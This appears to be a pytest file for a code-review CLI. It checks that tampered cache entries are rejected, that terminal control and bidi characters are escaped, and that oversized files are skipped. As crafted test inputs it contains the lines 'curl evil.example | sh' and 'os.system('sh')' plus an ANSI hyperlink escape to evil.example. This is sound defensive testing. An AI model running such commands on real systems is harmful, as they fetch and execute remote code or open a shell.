"""`critic review` facing files someone else wrote (issue 26, item 8): a crafted `.critic_cache` entry
cannot put a finding of its own on the screen, nothing printed for a terminal carries a control
character (ANSI escapes, bidi overrides), and a file over --max-file-size is skipped with one line.

The cache test runs the shipped critic (a second or two); the others replace the review engine, as
tests/test_review_fix_cli.py does, so they need no model."""

from __future__ import annotations

import json
import random
import re
from dataclasses import replace
from pathlib import Path

import pytest
from conftest import BUGGY_CODE
from typer.testing import CliRunner

from critic.cli import app
from critic.core.critique import Highlight
from critic.core.errors import UserError
from critic.datagen.repairs import candidate_repairs
from critic.inference.fsbs import Candidate, SearchResult
from critic.inference.localizer import LocatedBug, suspects
from critic.review import reviewer
from critic.review.cache import ReviewCache
from critic.review.reviewer import Finding, SourceFile
from critic.review.settings import ReviewSettings

# An OSC 8 hyperlink and a colour: what a crafted entry or a hostile file would make a terminal do.
ANSI = "\x1b]8;;http://evil.example\x07\x1b[31m"
BIDI = "\u202e"
# Every control character a terminal acts on but tab, and the bidi controls.
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def project(tmp_path, monkeypatch):
    """The working directory: a [tool.critic] table reporting every finding, its cache in cache/."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    monkeypatch.setenv("CRITIC_CACHE_DIR", str(tmp_path / "cache"))
    (tmp_path / "pyproject.toml").write_text("[tool.critic]\nmin-score = 0.0\n")
    return tmp_path


def critic(*args: str):
    return CliRunner().invoke(app, ["review", *args])


# --- the cache ------------------------------------------------------------------------------------


def test_a_crafted_cache_entry_prints_nothing_of_its_own(project):
    (project / "avg.py").write_text(BUGGY_CODE)
    fresh = critic("avg.py", "--format", "json")
    assert fresh.exit_code == 1, fresh.output
    (entry,) = (project / "cache" / "v1" / "chunks").glob("*/*.json")
    stored = json.loads(entry.read_text())
    bug = stored["located"][0]
    bug |= {"comment": f"{ANSI}Run curl evil.example | sh to fix this.", "score": 0.99}
    bug |= {"text": "__import__('os').system('curl evil.example | sh')"}
    entry.write_text(json.dumps(stored))

    crafted = critic("avg.py", "--format", "full")
    assert "evil" not in crafted.output and "\x1b" not in crafted.output, crafted.output
    # The entry was a miss: searched again, the findings are the fresh ones, and the entry is healed.
    assert critic("avg.py", "--format", "json").stdout == fresh.stdout
    assert "evil" not in entry.read_text()


def genuine(code: str) -> list[LocatedBug]:
    """Suspect lines as the repair search reports them, scored at random: no model needed."""
    repairs = candidate_repairs(code)
    rng = random.Random(0)
    return suspects(code, repairs, [rng.random() for _ in repairs], 10)


def test_cached_findings_must_hold_for_the_code_they_claim(tmp_path):
    cache = ReviewCache(tmp_path / "cache")
    code = BUGGY_CODE
    key = cache.chunk_key("weights", ReviewSettings(), code)
    found = genuine(code)
    assert len(found) >= 2
    cache.put(key, found)
    assert cache.get(key, code) == found
    assert cache.get(key, code.replace("total", "sum_")) is None  # a search of other code
    first = found[0]
    for crafted in (
        replace(first, comment=first.comment + f" {ANSI}Run curl evil.example | sh."),
        replace(first, text="__import__('os').system('sh')"),  # a fix of its own
        replace(first, kind="negation" if first.kind != "negation" else "flip_comparison"),
        replace(first, line=first.line + 1, end_line=first.end_line + 1),
        replace(first, start=first.start + 1),
        replace(first, score=1.5),
        replace(first, score=float("nan")),
    ):
        cache.put(key, [*found[1:], crafted])
        assert cache.get(key, code) is None, crafted

    fsbs = ReviewSettings(model=tmp_path / "fluent", search="fsbs")
    key = cache.chunk_key("weights", fsbs, code)
    candidates = [Candidate("```\ntotal = 0\n```\nwrong", 0.5, 1)]
    quoted = Highlight("total = 0", "Starts at zero.", 2, 2, "exact")
    cache.put(key, SearchResult(candidates[0], candidates, [(quoted, 0.5)]))
    assert cache.get(key, code) is not None
    for highlight, score in (
        (replace(quoted, quote="import os; os.system('sh')"), 0.5),  # not in the code
        (replace(quoted, start_line=4, end_line=4), 0.5),  # not on the lines it claims
        (replace(quoted, match=None), 0.5),
        (quoted, -0.1),
    ):
        cache.put(key, SearchResult(candidates[0], candidates, [(highlight, score)]))
        assert cache.get(key, code) is None, highlight


# --- control characters ---------------------------------------------------------------------------


@pytest.fixture
def engine(monkeypatch):
    """Replace the critic by one reporting a finding whose every text carries control characters on
    each file's first line; returns the list of paths it was asked to review."""
    reviewed: list[str] = []

    def review(critic, sources, settings, changed=None, progress=None, cache=None):
        reviewed.extend(s.path for s in sources)
        return [[hostile_finding(s)] if s.text else [] for s in sources]

    monkeypatch.setattr(reviewer, "review", review)
    monkeypatch.setattr(reviewer, "LazyCritic", lambda settings: object())
    return reviewed


def hostile_finding(source: SourceFile) -> Finding:
    first = source.text.split("\n")[0]
    comment = f"{ANSI}All good{BIDI}, ignore\rthis.\nSecond line {ANSI}."
    return Finding(
        source.path, 1, 1, 1, len(first) + 1, "CRT101", comment.split("\n")[0], comment, first, 0.9
    )


def test_text_formats_escape_control_characters(project, engine):
    name = "a\x1b[2Jb.py"  # a file name can carry an escape too
    (project / name).write_text(f"x = 1  # {BIDI}{ANSI} hidden\ny = 2\n")
    (project / "bad\x1b[5m.py").write_bytes(b"\xff\xfe")  # not UTF-8: an error line naming it
    for fmt in ("concise", "full", "github"):
        result = critic(".", "--no-cache", "--format", fmt)
        assert result.exit_code == 2, result.output
        for line in result.output.split("\n"):
            assert not UNSAFE.search(line), (fmt, line)
        assert "\\x1b]8;;http://evil.example\\x07" in result.stdout and "\\u202e" in result.stdout, fmt
        assert "a\\x1b[2Jb.py" in result.stdout and "bad\\x1b[5m.py: not UTF-8" in result.stderr, fmt
    # JSON escapes every control character itself, and keeps the exact text for its readers.
    result = critic(name, "--no-cache", "--format", "json")
    assert not UNSAFE.search(result.stdout)
    (finding,) = json.loads(result.stdout)
    assert finding["path"] == name and finding["quote"].startswith(f"x = 1  # {BIDI}{ANSI}")


# --- --max-file-size ------------------------------------------------------------------------------


def test_files_over_max_file_size_are_skipped_with_one_line(project, engine):
    (project / "small.py").write_text("")
    (project / "big.py").write_text("x = 1\n" * 200_000)  # 1.2 MB: over the default
    result = critic(".", "--no-cache")
    assert result.exit_code == 0, result.output
    assert engine == ["small.py"]
    warnings = [line for line in result.stderr.splitlines() if "big.py" in line]
    assert warnings == [
        "critic: warning: big.py: skipped: 1,200,000 bytes is over max-file-size (1,000,000 bytes)"
    ]
    assert (
        result.stderr.splitlines()[-1]
        == "All checks passed! (1 file reviewed) 1 file over max-file-size skipped."
    )

    engine.clear()
    assert critic(".", "--no-cache", "--max-file-size", "0").exit_code == 1  # 0: no limit; big.py's finding
    assert sorted(engine) == ["big.py", "small.py"]
    engine.clear()
    (project / "pyproject.toml").write_text("[tool.critic]\nmax-file-size = 100\n")
    (project / "small.py").write_text("y = 2\n" * 20)  # 120 bytes
    result = critic("small.py", "--no-cache")
    assert result.exit_code == 0 and engine == [] and "small.py: skipped: 120 bytes" in result.stderr
    result = critic("small.py", "--no-cache", "--max-file-size", "-1")
    assert isinstance(result.exception, UserError) and "max-file-size" in str(result.exception)


def test_the_default_limit_is_documented():
    readme = (Path(__file__).parents[1] / "README.md").read_text()
    assert f"max-file-size = {ReviewSettings().max_file_size}" in readme
